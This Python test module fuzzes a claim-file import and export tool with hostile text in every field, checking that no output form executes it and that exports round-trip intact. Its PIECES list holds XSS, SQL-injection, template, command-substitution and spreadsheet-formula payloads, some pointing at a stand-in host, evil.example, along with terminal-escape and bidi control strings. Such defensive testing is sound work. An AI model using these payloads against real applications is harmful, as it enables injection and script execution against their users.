"""Hostile text in every field that takes any, and what each form of output makes of it."""

from collections.abc import Iterator
from pathlib import Path
from random import Random
from typing import Any

from stance.claimfile.schema import ClaimFile
from tests.cli.program import Program
from tools.attack.bench import Trial
from tools.attack.deeds import claim_file, reading
from tools.attack.folders import folder_in_turn
from tools.attack.forms import require_form
from tools.attack.ground import rows, typed_place
from tools.attack.verdict import ended_well, hold, sound

#: What any field may hold, and every form must render harmless.
PIECES = (
    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg/onload=alert(1)>"),
    *(
        "</style><style>@import 'http://evil.example/x'</style>",
        "javascript:alert(1)",
        "]]>",
        "-->",
    ),
    *("</script><script src=//evil.example/x></script>", "' onmouseover='alert(1)", "&#60;b&#62;"),
    *("<iframe src=http://evil.example>", "<a href=javascript:alert(1)>x</a>", "&lt;", "<!--"),
    *("'; DROP TABLE claim; --", "' OR 1=1 --", "%s %(x)s {x} {{7*7}} ${7*7}", "\\", "$$", "`id`"),
    *('=HYPERLINK("http://evil.example")', "=1+1", "+1+1", "-1+1|cmd", "@SUM(1)", "\t=1", "\r=1"),
    *(
        "\x1b]0;owned\x07",
        "\x1b[31m",
        "\x9b1m",
        "\x07",
        "\x08\x08",
        "\r\nx",
        "\x7f",
        "\x85",
        "\x1b",
    ),
    *(
        "\u202ekcab\u202c",
        "\u2066x\u2069",
        "\u200e",
        "\u2028",
        "\u2029",
        "\ufeff",
        "\u200b",
        "\u00ad",
    ),
    *(
        "[red]x[/red]",
        "[link=http://evil.example]x[/link]",
        ":smile:",
        "| a | b |",
        "\n\n# H\n",
        "**",
    ),
    *("![x](http://evil.example/x)", "[x](javascript:alert(1))", "```", "<http://evil.example>"),
    *(
        "\U0001f600",
        "e\u0301" * 20,
        "\u0410\u0430",
        "\ufffe",
        "\uffff",
        "\ufdd0",
        "\x01",
        "\x0b\x0c",
    ),
    *("\n---\n- a: &b *b", "!!python/object:x", "- x", "? x", '{"a": 1}', "\t", "null", "~", "NO"),
)
#: What no field may hold, or not every one.
REFUSED = (
    "\0",
    "\ud800",
    "\udfff",
    "\u202e",
    "\u200b" * 5,
    "",
    " ",
    "x" * 1_000_000,
    "é" * 300_000,
)
#: How often one field holds such.
_BAD = 0.25
#: In so many trials everything is read that there is.
TURNS = 17
#: Fields of text that are names of other entries, dates, or keys: what is no text of one's own.
_TIED = {
    *("sha256", "original"),
    *("slug", "same_as", "part_of", "within", "parties", "condition", "reason", "treaty", "holder"),
    *("issue", "addressees", "by", "speaker", "relayed_by", "key", "source", "text_file", "at"),
    *("since", "until", "signed_on", "in_force_on", "ended_on", "stated_on", "published_on"),
    *("read_on", "recorded_at", "retired_at", "replaces", "found_by", "wikidata", "iso3"),
    # Of a history, which brings its own times.
    *("field", "from", "to", "retired_by", "retired_reason", "added_at", "added_by"),
    *("opened_at", "opened_by", "closed_at", "closed_by", "reopened_at", "reopened_by"),
    *("read_at", "set_aside_at", "taken_back_at", "taken_back_by"),
    # Of rounds.
    *("dated", "sources"),
}


def text_in_every_field(trial: Trial) -> Iterator[str]:
    """A claim file is imported; what it holds acts in no form of what is shown or exported."""
    hold(not left_out(), f"no attack fills in {sorted(left_out())}")
    chance = trial.chance
    spoilt = Spoilt(chance, chance.sample(PIECES, chance.choice((1, 3, 8))))
    if chance.random() < _BAD:
        spoilt.field, spoilt.bad = chance.choice(sorted(every_field())), chance.choice(REFUSED)
    engine = trial.ground.an_engine(chance)
    with trial.ground.database("sample", engine) as url:
        yield f"{', '.join(map(repr, spoilt.pieces))} on {engine}: {_imported(url, spoilt)}"
        sound(url)
        program = Program(typed_place(url))
        for words in _in_turn(trial):
            require_form(program, words)
        folder_in_turn(trial, program)
        _comes_back(trial, program)


def _imported(url: str, spoilt: "Spoilt") -> str:
    """Import the file, or where it is refused the same without the reason; how it went."""
    program, before = Program(typed_place(url)), rows(url)
    done = program("import", claim_file("claims.json", spoilt.file()))
    ended_well(done, {0, 2} if spoilt.field else {0})
    if not done.code:
        return "imported"
    hold(rows(url) == before, "refused, and not as it was before")
    refused, spoilt.field = spoilt.field, ""
    ended_well(program("import", claim_file("claims.json", spoilt.file())), {0})
    return f"imported without the {spoilt.bad[:9]!r} that was refused as {refused}"


def _in_turn(trial: Trial) -> list[list[str]]:
    """Of what shows and exports, what it is this trial's turn to read: all, in so many trials."""
    return reading()[trial.next_of(range(TURNS)) :: TURNS]


def _comes_back(trial: Trial, program: Program) -> None:
    """What is exported and imported elsewhere is the same."""
    exported = program("export", "claims").out
    Path("exported.yaml").write_text(exported, encoding="utf-8")
    other = Program(str(trial.ground.file("nothing")))
    ended_well(other("import", "exported.yaml"), {0})
    hold(other("export", "claims").out == exported, "an export is not what it was made from")


class Spoilt:
    """A claim file with hostile text in each field, and in one of them perhaps what is refused."""

    def __init__(self, chance: Random, pieces: list[str]) -> None:
        self.chance, self.pieces = chance, pieces
        self.field, self.bad, self.coder = "", "", ""
        self.filled: set[str] = set()

    def text(self, field: str) -> str:
        """Text for one field."""
        self.filled.add(field)
        if field == self.field:
            return self.bad
        piece = self.chance.choice(self.pieces)
        # Words of its own keep it from being the name of another.
        return f"{piece}the {field.replace('.', ' ')} {piece}x"

    def file(self) -> dict[str, Any]:
        """The claim file."""
        self.coder = self.text("round.coders")
        return {
            **self._vocabulary(),
            **self._coding(),
            "sources": [self._source(self.text("claim.quote")), self._withheld()],
        }

    def _vocabulary(self) -> dict[str, Any]:
        text = self.text
        tie = {"within": "other", "kind": "member-of", "role": text("affiliation.role")}
        kinds = ("actor", "issue", "condition", "reason", "treaty")
        named = {
            kind: {"slug": f"the-{kind}", "name": text(f"{kind}.name")}
            | {"aliases": [text(f"{kind}.aliases")]}
            for kind in kinds
        }
        actor = {**named["actor"], "kind": "state", "affiliations": [tie]}
        treaty = {"registration": text("treaty.registration"), "url": text("treaty.url")}
        return {
            "actors": [actor, {"slug": "other", "name": "Other", "kind": "organisation"}],
            "issues": [{**named["issue"], "proposition": text("issue.proposition")}],
            "conditions": [named["condition"]],
            "reasons": [named["reason"]],
            "treaties": [{**named["treaty"], "kind": "treaty", **treaty}],
        }

    def _coding(self) -> dict[str, Any]:
        coder = self.coder
        self.filled |= {"read.coder", "claim.round"}
        aside = {name: self.text(f"set_aside.{name}") for name in ("coder", "reason")}
        return {
            "codebooks": [{"number": 1, "text": self.text("codebook.text")}],
            "rounds": [
                {
                    "slug": "pilot",
                    "codebook": 1,
                    "sources": ["paper"],
                    "coders": [coder],
                    "read": [{"source": "paper", "coder": coder}],
                    "set_aside": [{"key": "read", **aside}],
                    "closed": True,
                }
            ],
        }

    def _source(self, quote: str) -> dict[str, Any]:
        names = ("title", "publisher", "author", "url", "reference")
        told = {name: self.text(f"source.{name}") for name in names}
        told["language"] = self.text("source.language")
        prefix = self.text("claim.prefix")
        words = f"{prefix}{quote}"
        return {
            "slug": "paper",
            **told,
            "published_on": "2003",
            "versions": [
                {
                    "text": f"{self.text('text.text')} {words} and the end.",
                    "pages": [{"start": 1, "label": self.text("page.label")}],
                }
            ],
            "claims": [self._claim(quote=quote, prefix=prefix), self._later(), self._reading()],
        }

    def _withheld(self) -> dict[str, Any]:
        words = self.text("passage.words")
        passages = [{"start": 1, "words": words}]
        known = {"sha256": "0" * 64, "length": len(words) + 2, "passages": passages}
        return {"slug": "withheld", "title": "A text kept back", "withheld": known}

    def _claim(self, **words: str) -> dict[str, Any]:
        noted = {name: self.text(f"claim.{name}") for name in ("translation", "note", "coder")}
        said = {"speaker": "the-actor", "stated_on": "2001", "key": "first"}
        return {**said, **words, **noted, "stances": [self._stance(words["quote"])]}

    def _stance(self, wording: str) -> dict[str, Any]:
        cited = {"treaty": "the-treaty", "provision": self.text("citation.provision")}
        for kind in ("condition_use", "reason_use", "citation"):
            self.filled.add(f"{kind}.wording")
        return {
            "issue": "the-issue",
            "position": "support",
            "note": self.text("stance.note"),
            "conditions": [{"condition": "the-condition", "wording": wording}],
            "reasons": [{"reason": "the-reason", "wording": wording}],
            "citations": [{**cited, "role": "basis", "wording": wording}],
        }

    def _later(self) -> dict[str, Any]:
        said = {"speaker": "the-actor", "stated_on": "2002", "key": "later"}
        stance = {"issue": "the-issue", "position": "oppose"}
        return {**said, "paraphrase": self.text("claim.paraphrase"), "stances": [stance]}

    def _reading(self) -> dict[str, Any]:
        return {**self._later(), "key": "read", "round": "pilot", "coder": self.coder}


def every_field() -> set[str]:
    """The fields that are filled."""
    spoilt = Spoilt(Random(0), ["x"])
    spoilt.file()
    return spoilt.filled


def left_out() -> set[str]:
    """Fields of text in the schema of claim files that are not filled."""
    parts = ClaimFile.model_json_schema()["$defs"]
    wanted = {
        f"{_snake(name.removesuffix('Entry'))}.{field}"
        for name, part in parts.items()
        for field, content in part.get("properties", {}).items()
        if name not in {"EditEntry", "RepeatOf"} and field not in _TIED and _takes_text(content)
    }
    return wanted - every_field() - {"source.text"}


def _takes_text(content: dict[str, Any]) -> bool:
    kinds = [content, *content.get("anyOf", [])]
    return any(each.get("type") == "string" for each in kinds)


def _snake(name: str) -> str:
    return "".join(f"_{x.lower()}" if x.isupper() else x for x in name).strip("_")
